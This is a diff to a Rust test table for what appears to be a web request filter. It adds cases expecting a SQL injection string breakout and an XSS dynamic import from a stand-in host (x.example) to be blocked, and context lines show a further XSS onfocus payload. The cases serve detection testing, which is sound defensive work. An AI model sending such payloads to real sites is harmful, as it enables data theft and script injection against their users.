@@ -448,6 +448,20 @@ pub fn table() -> Vec<Case> {
             "/search?q=y%22+autofocus+onfocus%3D%22(open)(%27%2F%2Fx.example%27)",
             Blocked("xss", "qs_values"),
         ),
+        // A pattern match after a string breakout (0.67 to the model).
+        case(
+            "query like breakout",
+            "GET",
+            "/search?q=x%27+OR+full_name+LIKE+%27%25Bob%25",
+            Blocked("sqli", "qs_values"),
+        ),
+        // A module loaded from another origin (0.0008 to the model).
+        case(
+            "query dynamic import",
+            "GET",
+            "/search?q=import(%27%2F%2Fx.example%2Fm.js%27)",
+            Blocked("xss", "qs_values"),
+        ),
         // Campaign parameters inside a value: words that start with `on`.
         case(
             "benign on words",
